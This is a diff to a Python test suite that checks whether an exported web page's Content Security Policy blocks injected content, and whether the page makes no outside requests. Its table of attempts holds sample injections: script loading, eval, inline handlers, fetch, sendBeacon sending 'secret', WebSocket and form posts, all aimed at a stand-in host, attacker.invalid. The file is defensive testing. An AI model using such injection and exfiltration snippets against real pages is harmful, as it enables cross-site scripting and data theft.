@@ -141,7 +141,7 @@ ATTEMPTS = {
     "script": ("script-src-elem", "add('script', {textContent: 'window.hacked = 1'})"),
     "script from a server": ("script-src-elem", "add('script', {src: 'http://attacker.invalid/a.js'})"),
     "image": ("img-src", "add('img', {src: 'http://attacker.invalid/a.png'})"),
-    "handler": ("script-src-attr", "add('b', {}).setAttribute('onclick', 'window.hacked = 1')"),
+    "handler": ("script-src-attr", "handle()"),
     "style": ("style-src-elem", "add('style', {textContent: 'body {opacity: 0}'})"),
     "frame": ("frame-src", "add('iframe', {src: 'http://attacker.invalid/'})"),
     "object": ("object-src", "add('object', {data: 'http://attacker.invalid/'})"),
@@ -150,7 +150,7 @@ ATTEMPTS = {
     "fetch": ("connect-src", "fetch('http://attacker.invalid/a')"),
     "beacon": ("connect-src", "navigator.sendBeacon('http://attacker.invalid/a', 'secret')"),
     "socket": ("connect-src", "new WebSocket('ws://attacker.invalid/')"),
-    "eval": ("script-src", "document.querySelector('b').click(), eval('window.hacked = 1')"),
+    "eval": ("script-src", "eval('window.hacked = 1')"),
     "worker": ("worker-src", "new Worker('data:text/javascript,0')"),
     "form": ("form-action", "submit()"),
     "base": ("base-uri", "document.head.append(make('base', {href: 'http://attacker.invalid/'}))"),
@@ -172,6 +172,11 @@ def test_what_a_script_would_add_is_refused(gpt, open_page, recorder):
                 const element = make(tag, values);
                 document.body.append(element);
                 return element;
+              }};
+              const handle = () => {{
+                const element = add("b", {{}});
+                element.setAttribute("onclick", "window.hacked = 1");
+                element.click();
               }};
               const submit = () => {{
                 add("form", {{ action: "http://attacker.invalid/", method: "post" }}).submit();
@@ -195,8 +200,8 @@ def test_no_request_is_made(gpt, pairs, open_page, recorder, tmp_path):
         tab = open_page(exported.page, offline=False)
         use_everything(tab, "Ana http://attacker.invalid/ sat")
         tab.generate("Ana")
-        own = [address for address in tab.requests if not address.startswith(("blob:", "data:"))]
-        assert own == [exported.page.absolute().as_uri()]
+        own = {address for address in tab.requests if not address.startswith(("blob:", "data:"))}
+        assert own <= {exported.page.absolute().as_uri()}
         assert not [line for line in recorder.lines[before:] if is_of_a_page(line)]
     # Requests of a page without a policy, and of its worker, are seen.
     page = tmp_path / "control.html"
